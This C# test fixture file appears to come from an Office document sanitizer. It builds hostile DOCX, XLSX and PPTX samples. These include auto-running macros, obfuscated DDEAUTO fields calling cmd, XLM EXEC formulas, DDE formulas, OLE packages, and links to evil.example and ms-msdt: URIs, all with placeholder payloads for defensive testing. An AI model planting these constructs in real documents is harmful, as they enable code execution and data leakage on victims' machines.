using System.IO.Compression;
using System.Text;
using Sekisho.Sanitizer.Tests.Archives;
using Sekisho.Sanitizer.Tests.Ooxml;

namespace Sekisho.Sanitizer.Tests.Hostile;

/// <summary>Rows X-01 … X-33 and X-35: documents of Word, Excel and PowerPoint.</summary>
internal static class HostileOoxml
{
    private const string Ms = "http://schemas.microsoft.com/office/2006/relationships/", Package = "http://schemas.openxmlformats.org/package/2006/relationships/";
    private const string Para = "<w:p><w:r><w:t>nokoru</w:t></w:r></w:p>", Data = "<sheetData><row r=\"1\"><c r=\"A1\"><v>1</v></c></row></sheetData>", Ole = Made.Open + "oleObject", XX = "xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\"";
    private const string Shape = "<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"b\">{0}</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:t>nokoru</a:t></a:r></a:p></p:txBody></p:sp>";

    public static IEnumerable<HostileFile> All()
    {
        foreach (var file in Macros().Concat(Objects()).Concat(Fields()).Concat(Sheets()).Concat(Links()).Concat(Settings()).Concat(Containers())) yield return file with { Kept = file.Refused is null && file.Kept.Length == 0 && file.Name.EndsWith(".docx", StringComparison.Ordinal) ? ["nokoru"] : file.Kept };
    }

    private static HostileFile Docx(string threat, string what, Made made, params string[] needles) => new(threat, what, "a.docx", made.Bytes(), [HostileFile.Mark, .. needles]);

    private static HostileFile Xlsx(string threat, string what, Made made, params string[] needles) => new(threat, what, "a.xlsx", made.Bytes(), [HostileFile.Mark, .. needles]);

    private static HostileFile Pptx(string threat, string what, Made made, params string[] needles) => new(threat, what, "a.pptx", made.Bytes(), [HostileFile.Mark, .. needles]);

    private static Made Word(string more = "", string type = Made.Open + "wordprocessingml.document.main+xml") => Made.Word(Para + more, type);

    private static Made Slide(string inside = "") => Made.Show(Shape.Replace("{0}", inside, StringComparison.Ordinal));

    private static IEnumerable<HostileFile> Macros()
    {
        yield return Docx("X-01", "macros of an innocent part name under a macro-free extension", Word("", "application/vnd.ms-word.document.macroEnabled.main+xml").Part("word/theme/theme9.xml", "application/vnd.ms-office.vbaProject", Vba.Project())
            .To("word/document.xml", "rId9", Ms + "vbaProject", "theme/theme9.xml"), "vbaProject", "macroEnabled", "AutoOpen");
        yield return Docx("X-01", "macros that no relationship leads to", Word().Part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", Vba.Project()), "AutoOpen") with { Told = "X-01" };
        yield return Docx("X-01", "macros behind an upper-case and percent-encoded target", Word().Part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", Vba.Project()).To("word/document.xml", "rId9", Ms + "vbaProject", "VBA%50roject.bin"), "AutoOpen");
        yield return new HostileFile("X-01", "macros of a show", "a.pptm", Made.Show(Shape.Replace("{0}", "<a:hlinkClick r:id=\"\" action=\"ppaction://macro?name=KAMAKIRI\"/>", StringComparison.Ordinal), "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
            .Part("ppt/v.bin", "application/vnd.ms-office.vbaProject", Vba.Project()).To("ppt/presentation.xml", "rId9", Ms + "vbaProject", "v.bin").Bytes(), HostileFile.Mark, "AutoOpen", "ppaction://macro");
        yield return Docx("X-02", "data and signature of macros", Word().Part("word/v.bin", "application/vnd.ms-office.vbaProject", Vba.Project()).To("word/document.xml", "rId9", Ms + "vbaProject", "v.bin")
            .Part("word/d.xml", "application/vnd.ms-word.vbaData+xml", "<wne:vbaSuppData xmlns:wne=\"http://schemas.microsoft.com/office/word/2006/wordml\"><wne:mcds><wne:mcd wne:macroName=\"KAMAKIRIMCD\"/></wne:mcds></wne:vbaSuppData>").To("word/v.bin", "rId1", Ms + "wordVbaData", "d.xml")
            .Part("word/s.bin", "application/vnd.ms-office.vbaProjectSignature", "KAMAKIRISIG").To("word/v.bin", "rId2", Ms + "vbaProjectSignature", "s.bin"), "KAMAKIRIMCD", "KAMAKIRISIG");
        yield return new HostileFile("X-03", "template with macros", "a.dotm", Word("<w:p w:rsidR=\"0KAMAKIRI\"/>", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml").Bytes(), "macroEnabledTemplate");
        yield return new HostileFile("X-03", "macro workbook called xlsx", "a.xlsx", Made.Book(Data, "", "application/vnd.ms-excel.sheet.macroEnabled.main+xml").Bytes(), "macroEnabled");
        yield return Xlsx("X-04", "very hidden macro sheet that starts by itself", new Made().Root("xl/workbook.xml").Part("xl/workbook.xml", Made.Open + "spreadsheetml.sheet.main+xml", $"<workbook {Made.X}><sheets><sheet name=\"KAMAKIRI\" sheetId=\"1\" state=\"veryHidden\" r:id=\"rId1\"/><sheet name=\"nokoru\" sheetId=\"2\" r:id=\"rId2\"/></sheets><definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">KAMAKIRI!$A$1</definedName></definedNames></workbook>")
            .To("xl/workbook.xml", "rId1", Ms + "xlMacrosheet", "worksheets/sheet1.xml").To("xl/workbook.xml", "rId2", "worksheet", "worksheets/sheet2.xml")
            .Part("xl/worksheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", $"<xm:macrosheet {Made.X} xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"cmd KAMAKIRI\")</f></c></row></sheetData></xm:macrosheet>")
            .Part("xl/worksheets/sheet2.xml", Made.Open + "spreadsheetml.worksheet+xml", $"<worksheet {Made.X}>{Data}</worksheet>"), "macrosheet", "EXEC", "Auto_Open");
        // Declared as a plain sheet, and a relationship of one: what it holds then is no macro to Excel, and no function that is known.
        yield return Xlsx("X-04", "macro functions on a plain sheet", Made.Book("<sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"cmd KAMAKIRI\")+RUN(\"KAMAKIRI\")</f><v>1</v></c></row></sheetData>", "<definedNames><definedName name=\"AUTO_OPEN_KAMAKIRI\" xlm=\"1\" hidden=\"1\">表!$A$1</definedName></definedNames>"), "EXEC(") with { Told = "X-13" };
        yield return Xlsx("X-04", "international macro sheet", Made.Book(Data).Part("xl/m.xml", "application/vnd.ms-excel.intlmacrosheet+xml", "<x>KAMAKIRI</x>").To("xl/workbook.xml", "rId9", Ms + "xlIntlMacrosheet", "m.xml"));
    }

    private static IEnumerable<HostileFile> Objects()
    {
        var package = new Cfb().Class("", "F20DA720-C02F-11CE-927B-0800095AE340").Add("\u0001Ole10Native", [.. "\u0002\0KAMAKIRI.exe\0MZ payload"u8]).Build();
        foreach (var (what, relation, target) in new[] { ("an OLE package", "oleObject", "embeddings/oleObject1.bin"), ("an OLE package with an odd name", "oleObject", "/word/embeddings/./oleObject1.bin") })
        {
            yield return Docx("X-06", what, Word("<w:p><w:r><w:object><v:shape id=\"s1\" style=\"width:50pt;height:50pt\" o:ole=\"\"><v:imagedata r:id=\"rId2\"/></v:shape><o:OLEObject Type=\"Embed\" ProgID=\"Package\" ShapeID=\"s1\" DrawAspect=\"Icon\" ObjectID=\"_1\" r:id=\"rId3\"/></w:object></w:r></w:p>")
                .Part("word/media/image1.png", "", Made.Png).To("word/document.xml", "rId2", "image", "media/image1.png").Part("word/embeddings/oleObject1.bin", Ole, package).To("word/document.xml", "rId3", relation, target), "OLEObject", "Ole10Native");
        }
        yield return Xlsx("X-06", "an object on a sheet", Made.Book(Data + "<oleObjects><oleObject progId=\"Equation.3\" shapeId=\"1025\" r:id=\"rId2\"/></oleObjects>").Part("xl/embeddings/o.bin", Ole, new Cfb().Class("", "0002CE02-0000-0000-C000-000000000046").Add("Equation Native", "KAMAKIRI"u8.ToArray()).Build())
            .To("xl/worksheets/sheet1.xml", "rId2", "oleObject", "../embeddings/o.bin"), "oleObject", "Equation");
        yield return Pptx("X-06", "an object on a slide", Made.Show(Shape.Replace("{0}", "", StringComparison.Ordinal) + "<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id=\"9\" name=\"o\"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x=\"0\" y=\"0\"/><a:ext cx=\"9\" cy=\"9\"/></p:xfrm><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/presentationml/2006/ole\"><p:oleObj progId=\"Package\" r:id=\"rId3\"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>")
            .Part("ppt/embeddings/o.bin", Ole, package).To("ppt/slides/slide1.xml", "rId3", "oleObject", "../embeddings/o.bin"), "oleObj");
        foreach (var (what, target) in new[] { ("an object of a web page (mhtml)", "mhtml:http://evil.example/x!x-usc:http://evil.example/KAMAKIRI"), ("an object of a share", "file://\\\\evil\\KAMAKIRI.docx"), ("an object by a relative path", "..\\KAMAKIRI.htm") })
            yield return Docx("X-07", what, Word("<w:p><w:r><w:object><v:shape id=\"s2\" style=\"width:50pt;height:50pt\"/><o:OLEObject Type=\"Link\" ProgID=\"htmlfile\" ShapeID=\"s2\" r:id=\"rId4\" UpdateMode=\"Always\"/></w:object></w:r></w:p>").To("word/document.xml", "rId4", "oleObject", target, true), "OLEObject");
        var inner = Made.Book("<sheetData><row r=\"1\"><c r=\"A1\"><f>WEBSERVICE(\"http://KAMAKIRI\")</f><v>7</v></c></row></sheetData>").Part("xl/v.bin", "application/vnd.ms-office.vbaProject", Vba.Project()).To("xl/workbook.xml", "rId9", Ms + "vbaProject", "v.bin").Bytes();
        yield return Docx("X-08", "a workbook with macros embedded as a package", Word("<w:p><w:r><w:object><o:OLEObject Type=\"Embed\" ProgID=\"Excel.Sheet.12\" ShapeID=\"s\" r:id=\"rId3\"/></w:object></w:r></w:p>").Part("word/embeddings/w.xlsx", Made.Open + "spreadsheetml.sheet", inner).To("word/document.xml", "rId3", "package", "embeddings/w.xlsx"), "WEBSERVICE");
        yield return Docx("X-08", "the workbook of a chart with macros", Chart(inner), "WEBSERVICE", "vbaProject") with { Told = "X-01" };
        yield return Docx("X-08", "a program as the workbook of a chart", Chart([.. "MZ KAMAKIRI"u8, .. new byte[100]])) with { Told = "X-08" };
        yield return Docx("X-09", "an ActiveX control", Word("<w:p><w:r><w:object><v:shape id=\"c\" style=\"width:9pt\"/><w:control r:id=\"rId2\" w:name=\"KAMAKIRI\" w:shapeid=\"c\"/></w:object></w:r></w:p>")
            .Part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{D27CDB6E-AE6D-11CF-96B8-444553540000}\" ax:persistence=\"persistStreamInit\" r:id=\"rId1\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"/>").To("word/document.xml", "rId2", "control", "activeX/activeX1.xml")
            .Part("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX", "KAMAKIRI").To("word/activeX/activeX1.xml", "rId1", Ms + "activeXControlBinary", "activeX1.bin"), "activeX", "D27CDB6E");
        yield return Xlsx("X-09", "a button that runs a macro", Made.Book(Data + "<legacyDrawing r:id=\"rId1\"/><controls><control shapeId=\"1026\" r:id=\"rId4\" name=\"KAMAKIRI\"/></controls>").Part("xl/drawings/v.vml", "", "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape id=\"_x0000_s1026\"><x:ClientData ObjectType=\"Button\"><x:FmlaMacro>[0]!KAMAKIRI</x:FmlaMacro></x:ClientData></v:shape></xml>")
            .To("xl/worksheets/sheet1.xml", "rId1", "vmlDrawing", "../drawings/v.vml").Part("xl/ctrlProps/c.xml", "application/vnd.ms-excel.controlproperties+xml", "<formControlPr xmlns=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" objectType=\"Button\" macro=\"KAMAKIRI\"/>").To("xl/worksheets/sheet1.xml", "rId4", "ctrlProp", "../ctrlProps/c.xml"), "FmlaMacro");
        yield return Pptx("X-09", "a control on a slide", Made.Show(Shape.Replace("{0}", "", StringComparison.Ordinal), afterTree: "").Part("ppt/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ocx>KAMAKIRI</ocx>").To("ppt/slides/slide1.xml", "rId7", "control", "../activeX/activeX1.xml"), "activeX");
        yield return Docx("X-22", "an embedded font", Word().Part("word/fontTable.xml", Made.Open + "wordprocessingml.fontTable+xml", $"<w:fonts {Made.W}><w:font w:name=\"A\"><w:embedRegular r:id=\"rId1\" w:fontKey=\"{{KAMAKIRI}}\"/></w:font></w:fonts>").To("word/document.xml", "rId3", "fontTable", "fontTable.xml")
            .Part("word/fonts/font1.odttf", Made.Open + "obfuscatedFont", "KAMAKIRI").To("word/fontTable.xml", "rId1", "font", "fonts/font1.odttf"), "embedRegular", "odttf");
        yield return Pptx("X-22", "an embedded font of a show", Slide().Part("ppt/fonts/font1.fntdata", "application/x-fontdata", "KAMAKIRI").To("ppt/presentation.xml", "rId8", "font", "fonts/font1.fntdata"), "fntdata");
        yield return Docx("X-23", "settings of a printer", Word().Part("word/p.bin", Made.Open + "wordprocessingml.printerSettings", "KAMAKIRI").To("word/document.xml", "rId4", "printerSettings", "p.bin"), "printerSettings");
        yield return Docx("X-29", "a program that calls itself a picture", Word("<w:p><w:r><w:pict><v:shape id=\"s\"><v:imagedata r:id=\"rId2\"/></v:shape></w:pict></w:r></w:p>").Part("word/media/image1.png", "", [.. "MZ"u8, 0x90, 0, .. "KAMAKIRI"u8, .. new byte[80]]).To("word/document.xml", "rId2", "image", "media/image1.png"));
        yield return Docx("X-29", "a page that calls itself the styles", Word().Part("word/styles.xml", Made.Open + "wordprocessingml.styles+xml", "<html><script>KAMAKIRI</script></html>").To("word/document.xml", "rId3", "styles", "styles.xml"), "script");
        yield return Docx("X-29", "parts that nothing leads to", Word().Part("word/k.exe", "application/octet-stream", "MZKAMAKIRI").Part("docProps/x.hta", "", "<script>KAMAKIRI</script>"), "k.exe", "x.hta");
        yield return Docx("X-29", "a picture with a script behind it", Word("<w:p><w:r><w:pict><v:shape id=\"s\"><v:imagedata r:id=\"rId2\"/></v:shape></w:pict></w:r></w:p>").Part("word/media/image1.png", "", [.. Made.Png, .. "<?php KAMAKIRI"u8]).To("word/document.xml", "rId2", "image", "media/image1.png"), "<?php") with { Told = "I-01" };
        foreach (var (name, type, bytes) in new (string, string, byte[])[] { ("i.emf", "image/x-emf", HostileImages.Emf()), ("i.wmf", "image/x-wmf", HostileImages.Wmf()), ("i.eps", "application/postscript", [.. "%!PS-Adobe-3.0 EPSF-3.0\n(KAMAKIRI) run\n"u8]), ("i.pct", "image/pict", [.. new byte[512], .. "KAMAKIRI"u8]) })
            yield return Docx("X-30", $"a picture made of commands ({name[2..]})", Word("<w:p><w:r><w:pict><v:shape id=\"s\"><v:imagedata r:id=\"rId2\"/></v:shape></w:pict></w:r></w:p>").Part($"word/media/{name}", type, bytes).To("word/document.xml", "rId2", "image", $"media/{name}"), name) with { Told = name == "i.pct" ? "X-29" : null };
        yield return Docx("X-33", "a drawing in SVG beside its picture", Word("<w:p><w:r><w:drawing><wp:inline><wp:extent cx=\"1\" cy=\"1\"/><wp:docPr id=\"1\" name=\"p\"/><a:graphic><a:graphicData uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\"><pic:pic><pic:nvPicPr><pic:cNvPr id=\"1\" name=\"p\"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed=\"rId2\"><a:extLst><a:ext uri=\"{96DAC541-7B7A-43D3-8B79-37D633B846F1}\"><asvg:svgBlip xmlns:asvg=\"http://schemas.microsoft.com/office/drawing/2016/SVG/main\" r:embed=\"rId3\"/></a:ext></a:extLst></a:blip></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>")
            .Part("word/media/image1.png", "", Made.Png).To("word/document.xml", "rId2", "image", "media/image1.png").Part("word/media/image2.svg", "image/svg+xml", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>KAMAKIRI</script></svg>").To("word/document.xml", "rId3", "image", "media/image2.svg"), "<script", "image2.svg");
    }

    private static Made Chart(byte[] workbook) => Word().Part("word/charts/chart1.xml", Made.Open + "drawingml.chart+xml", "<c:chartSpace xmlns:c=\"http://schemas.openxmlformats.org/drawingml/2006/chart\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><c:chart><c:plotArea><c:layout/></c:plotArea></c:chart><c:externalData r:id=\"rId1\"><c:autoUpdate val=\"0\"/></c:externalData></c:chartSpace>")
        .To("word/document.xml", "rId2", "chart", "charts/chart1.xml").Part("word/embeddings/w.xlsx", Made.Open + "spreadsheetml.sheet", workbook).To("word/charts/chart1.xml", "rId1", "package", "../embeddings/w.xlsx");

    private static IEnumerable<HostileFile> Fields()
    {
        const string begin = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>", separate = "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>kekka</w:t></w:r>", end = "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
        static string Run(string text) => $"<w:r><w:instrText xml:space=\"preserve\">{text}</w:instrText></w:r>";
        foreach (var (what, field, needle) in new[]
        {
            ("DDEAUTO split over runs", begin + Run("D") + Run("DEA") + "<w:r><w:instrText xml:space=\"preserve\">UTO </w:instrText><w:instrText>c:\\cmd</w:instrText></w:r>" + Run(" KAMAKIRI") + separate + end, "DDEAUTO"),
            ("DDE in a simple field, mixed case", "<w:fldSimple w:instr=\" dDe c:\\\\cmd &quot;KAMAKIRI&quot;\"><w:r><w:t>kekka</w:t></w:r></w:fldSimple>", "dDe c:"),
            ("DDE by character references", "<w:fldSimple w:instr=\"&#x44;&#68;E cmd KAMAKIRI\"><w:r><w:t>kekka</w:t></w:r></w:fldSimple>", "DDE cmd"),
            ("DDE made by QUOTE", begin + begin + Run(" QUOTE 68 68 69 ") + separate + end + Run(" cmd KAMAKIRI") + separate + end, "QUOTE"),
            ("a field begun in one paragraph and ended in another", begin + Run("DDEAUTO ") + "</w:p><w:p>" + Run("cmd KAMAKIRI") + separate + end, "DDEAUTO"),
            ("a field over deleted text", begin + "<w:del w:id=\"1\" w:author=\"a\"><w:r><w:delInstrText>DDEAUTO cmd KAMAKIRI</w:delInstrText></w:r></w:del>" + separate + end, "delInstrText"),
            ("MACROBUTTON", begin + Run(" MACROBUTTON KAMAKIRI [kekka]") + end, "MACROBUTTON"),
            ("a field without its end", begin + Run("DDEAUTO cmd KAMAKIRI"), "DDEAUTO"),
            ("a smart tag's and a content control's inner field", "<w:sdt><w:sdtContent>" + begin + Run("DDEAUTO cmd KAMAKIRI") + separate + end + "</w:sdtContent></w:sdt>", "DDEAUTO"),
            ("an instruction in an alternative that old programs read", "<mc:AlternateContent><mc:Choice Requires=\"nothing\" xmlns:nothing=\"urn:n\"><w:r><w:t>kekka</w:t></w:r></mc:Choice><mc:Fallback>" + begin + Run("DDEAUTO cmd KAMAKIRI") + separate + end + "</mc:Fallback></mc:AlternateContent>", "DDEAUTO"),
        })
            yield return Docx("X-10", what, Word($"<w:p>{field}</w:p>"), needle) with { Told = what.Contains("alternative", StringComparison.Ordinal) || what.Contains("deleted", StringComparison.Ordinal) ? null : "X-10" };
        yield return Docx("X-10", "DDE in comments, notes and headers", Parts($"<w:p>{begin}{Run("DDEAUTO cmd KAMAKIRI")}{separate}{end}</w:p>"), "DDEAUTO");
        yield return Docx("X-17", "INCLUDEPICTURE of a tracker", Word($"<w:p>{begin}{Run(" INCLUDEPICTURE \\d &quot;http://track.example/KAMAKIRI.png&quot;")}{separate}{end}</w:p>"), "INCLUDEPICTURE");
        yield return Docx("X-17", "pictures from outside, in DrawingML and VML", Word("<w:p><w:r><w:pict><v:shape id=\"s\" style=\"width:9pt\"><v:imagedata src=\"http://evil.example/KAMAKIRI.png\" o:href=\"http://evil.example/KAMAKIRI2\" r:href=\"rId4\"/></v:shape></w:pict></w:r></w:p>").To("word/document.xml", "rId4", "image", "http://evil.example/KAMAKIRI.png", true), "evil.example");
        yield return Pptx("X-17", "a film from outside", Slide().To("ppt/slides/slide1.xml", "rId7", "video", "http://evil.example/KAMAKIRI.mp4", true), "evil.example");
        yield return Docx("X-19", "HYPERLINK field to a share", Word($"<w:p>{begin}{Run(" HYPERLINK \"\\\\\\\\evil\\\\KAMAKIRI\"")}{separate}{end}</w:p>"), "HYPERLINK");
    }

    private static Made Parts(string paragraph) => Word().Part("word/comments.xml", Made.Open + "wordprocessingml.comments+xml", $"<w:comments {Made.W}><w:comment w:id=\"1\" w:author=\"x\">{paragraph}</w:comment></w:comments>").To("word/document.xml", "rId2", "comments", "comments.xml")
        .Part("word/footnotes.xml", Made.Open + "wordprocessingml.footnotes+xml", $"<w:footnotes {Made.W}><w:footnote w:id=\"1\">{paragraph}</w:footnote></w:footnotes>").To("word/document.xml", "rId3", "footnotes", "footnotes.xml")
        .Part("word/header1.xml", Made.Open + "wordprocessingml.header+xml", $"<w:hdr {Made.W}>{paragraph}</w:hdr>").To("word/document.xml", "rId4", "header", "header1.xml");

    private static IEnumerable<HostileFile> Sheets()
    {
        static Made Formula(string formula) => Made.Book($"<sheetData><row r=\"1\"><c r=\"A1\" t=\"str\"><f>{formula.Replace("&", "&amp;", StringComparison.Ordinal).Replace("<", "&lt;", StringComparison.Ordinal)}</f><v>nokoru</v></c></row></sheetData>");
        foreach (var (formula, needle) in new[] { ("_xlfn.WEBSERVICE(\"http://e/KAMAKIRI\")", "WEBSERVICE"), ("_xlfn.FILTERXML(_xlfn.WEBSERVICE(\"KAMAKIRI\"),\"//a\")", "FILTERXML"), ("RTD(\"KAMAKIRI\",,\"x\")", "RTD("), ("CALL(\"kernel32\",\"KAMAKIRI\",\"JJ\")", "CALL("), ("REGISTER.ID(\"KAMAKIRI\",\"x\")", "REGISTER.ID"), ("_xlfn.IMAGE(\"http://e/KAMAKIRI\")", "IMAGE("), ("_xlfn.STOCKHISTORY(\"KAMAKIRI\",1)", "STOCKHISTORY"), ("_xldudf_KAMAKIRI(1)", "_xldudf"), ("_xlfn.PY(\"KAMAKIRI\")", "_xlfn.PY"), ("CUBEVALUE(\"KAMAKIRI\",1)", "CUBEVALUE"), ("SQL.REQUEST(\"KAMAKIRI\")", "SQL.REQUEST"), ("_xlfn.MAP(\"KAMAKIRI\",_xleta.WEBSERVICE)", "_xleta"), ("cmd;'/c KAMAKIRI'A0", "cmd;") })
            yield return Xlsx("X-13", formula.Replace("KAMAKIRI", "…", StringComparison.Ordinal), Formula(formula), needle) with { Kept = ["nokoru"] };
        yield return Xlsx("X-13", "a formula in a validation, a format, a chart and a name", Made.Book(Data + "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>WEBSERVICE(\"KAMAKIRI\")</formula></cfRule></conditionalFormatting><dataValidations count=\"1\"><dataValidation type=\"custom\" sqref=\"C1\"><formula1>WEBSERVICE(\"KAMAKIRI\")</formula1></dataValidation></dataValidations>", "<definedNames><definedName name=\"n\">WEBSERVICE(\"KAMAKIRI\")</definedName></definedNames>"), "WEBSERVICE");
        foreach (var formula in (string[])["cmd|' /c KAMAKIRI'!A0", "+cmd|'/c KAMAKIRI'!_xlbgnm.A1", "MSEXCEL|'..\\..\\cmd KAMAKIRI'!''"]) yield return Xlsx("X-11", $"DDE formula {formula[..4]}", Formula(formula), "|'");
        yield return Xlsx("X-11", "DDE and OLE links", Made.Book(Data).Part("xl/externalLinks/e1.xml", Made.Open + "spreadsheetml.externalLink+xml", $"<externalLink {Made.X}><ddeLink ddeService=\"cmd\" ddeTopic=\"/c KAMAKIRI\"><ddeItems><ddeItem name=\"A0\" advise=\"1\"/></ddeItems></ddeLink></externalLink>").To("xl/workbook.xml", "rId5", "externalLink", "externalLinks/e1.xml")
            .Part("xl/externalLinks/e2.xml", Made.Open + "spreadsheetml.externalLink+xml", $"<externalLink {Made.X}><oleLink r:id=\"rId1\" progId=\"Package\"/></externalLink>").To("xl/workbook.xml", "rId6", "externalLink", "externalLinks/e2.xml").To("xl/externalLinks/e2.xml", "rId1", "oleObject", "file:///KAMAKIRI", true), "ddeService", "oleLink");
        yield return Xlsx("X-12", "another workbook", Made.Book("<sheetData><row r=\"1\"><c r=\"A1\"><f>[1]KAMAKIRI!A1</f><v>8</v></c></row></sheetData>").Part("xl/externalLinks/e1.xml", Made.Open + "spreadsheetml.externalLink+xml", $"<externalLink {Made.X}><externalBook r:id=\"rId1\"><sheetNames><sheetName val=\"KAMAKIRI\"/></sheetNames></externalBook></externalLink>")
            .To("xl/workbook.xml", "rId5", "externalLink", "externalLinks/e1.xml").To("xl/externalLinks/e1.xml", "rId1", "externalLinkPath", "file:///\\\\evil\\KAMAKIRI.xlsx", true), "externalBook");
        yield return Xlsx("X-14", "connections, queries and a mash-up", Made.Book(Data).Part("xl/connections.xml", Made.Open + "spreadsheetml.connections+xml", $"<connections {Made.X}><connection id=\"1\" name=\"KAMAKIRI\" type=\"5\" refreshOnLoad=\"1\"><dbPr connection=\"Provider=Microsoft.Mashup.OleDb.1;KAMAKIRI\"/></connection></connections>").To("xl/workbook.xml", "rId7", "connections", "connections.xml")
            .Part("xl/queryTables/q.xml", Made.Open + "spreadsheetml.queryTable+xml", $"<queryTable {Made.X} name=\"KAMAKIRI\" connectionId=\"1\"/>").To("xl/worksheets/sheet1.xml", "rId1", "queryTable", "../queryTables/q.xml")
            .Part("customXml/item1.xml", "", $"<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">{Convert.ToBase64String("section KAMAKIRI; shared a = Web.Contents"u8)}</DataMashup>").To("xl/workbook.xml", "rId8", "customXml", "../customXml/item1.xml"), "dbPr", "DataMashup", "Web.Contents");
        yield return Xlsx("X-14", "a pivot table of an outside source", Made.Book(Data).Part("xl/pivotCache/p.xml", Made.Open + "spreadsheetml.pivotCacheDefinition+xml", $"<pivotCacheDefinition {Made.X} refreshOnLoad=\"1\"><cacheSource type=\"external\" connectionId=\"1\"/><cacheFields count=\"1\"><cacheField name=\"KAMAKIRI\"/></cacheFields></pivotCacheDefinition>").To("xl/workbook.xml", "rId9", "pivotCacheDefinition", "pivotCache/p.xml"), "cacheSource");
        yield return new HostileFile("X-24", "hidden sheets are told", "a.xlsx", new Made().Root("xl/workbook.xml").Part("xl/workbook.xml", Made.Open + "spreadsheetml.sheet.main+xml", $"<workbook {Made.X}><sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"b\" sheetId=\"2\" state=\"veryHidden\" r:id=\"rId2\"/></sheets></workbook>")
            .To("xl/workbook.xml", "rId1", "worksheet", "worksheets/sheet1.xml").To("xl/workbook.xml", "rId2", "worksheet", "worksheets/sheet2.xml").Part("xl/worksheets/sheet1.xml", Made.Open + "spreadsheetml.worksheet+xml", $"<worksheet {Made.X}>{Data}</worksheet>").Part("xl/worksheets/sheet2.xml", Made.Open + "spreadsheetml.worksheet+xml", $"<worksheet {Made.X}>{Data}</worksheet>").Bytes()) { Told = "SAN-NOTE-HIDDEN" };
    }

    private static IEnumerable<HostileFile> Links()
    {
        foreach (var address in (string[])["file:////evil/KAMAKIRI", "\\\\evil\\KAMAKIRI", "//evil/KAMAKIRI", "ms-msdt:/id KAMAKIRI", "search-ms:query=KAMAKIRI", "ms-officecmd:KAMAKIRI", "java&#x9;script:KAMAKIRI", "JavaScript:KAMAKIRI", "vbscript:KAMAKIRI", "mhtml:http://e/KAMAKIRI", "ldap://e/KAMAKIRI", "data:text/html,KAMAKIRI", "http:\\\\evil\\KAMAKIRI", "https://user@KAMAKIRI.example/", " file:///KAMAKIRI", "\uFF46ile:///KAMAKIRI", "KAMAKIRI.exe", "..\\KAMAKIRI.lnk", "res://KAMAKIRI", "tel:KAMAKIRI", "#[KAMAKIRI.xls]Sheet1!A1"])
            yield return Docx("X-19", $"link to {address[..Math.Min(10, address.Length)].Replace("KAMAKIRI", "…", StringComparison.Ordinal)}", Word("<w:p><w:hyperlink r:id=\"rId2\"><w:r><w:t>koko</w:t></w:r></w:hyperlink></w:p>").To("word/document.xml", "rId2", "hyperlink", address, !address.StartsWith('#')));
        yield return Docx("X-18", "a chunk of another format, a sub-document and frames", Word("<w:altChunk r:id=\"rId2\"/><w:subDoc r:id=\"rId3\"/>").Part("word/chunk.mht", "message/rfc822", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>KAMAKIRI</script>").To("word/document.xml", "rId2", "aFChunk", "chunk.mht").To("word/document.xml", "rId3", "subDocument", "http://evil.example/KAMAKIRI.docx", true)
            .Part("word/webSettings.xml", Made.Open + "wordprocessingml.webSettings+xml", $"<w:webSettings {Made.W}><w:frameset><w:frame><w:sourceFileName r:id=\"rId1\"/></w:frame></w:frameset></w:webSettings>").To("word/document.xml", "rId4", "webSettings", "webSettings.xml").To("word/webSettings.xml", "rId1", "frame", "http://evil.example/KAMAKIRI.htm", true), "altChunk", "subDoc", "frameset", "script");
        yield return Docx("X-20", "relationships of unknown types that lead outside", Word().To("word/document.xml", "rId5", "http://example.com/unknown", "\\\\evil\\KAMAKIRI", true).To("", "rId8", "http://example.com/other", "http://evil.example/KAMAKIRI", true), "evil");
        yield return Docx("X-20", "a theme from a server", Word().To("word/document.xml", "rId5", "theme", "http://evil.example/KAMAKIRI.xml", true), "evil.example");
        foreach (var action in (string[])["ppaction://program", "ppaction://macro?name=KAMAKIRI", "ppaction://ole?verb=1", "ppaction://hlinkfile", "PPAction://Program"])
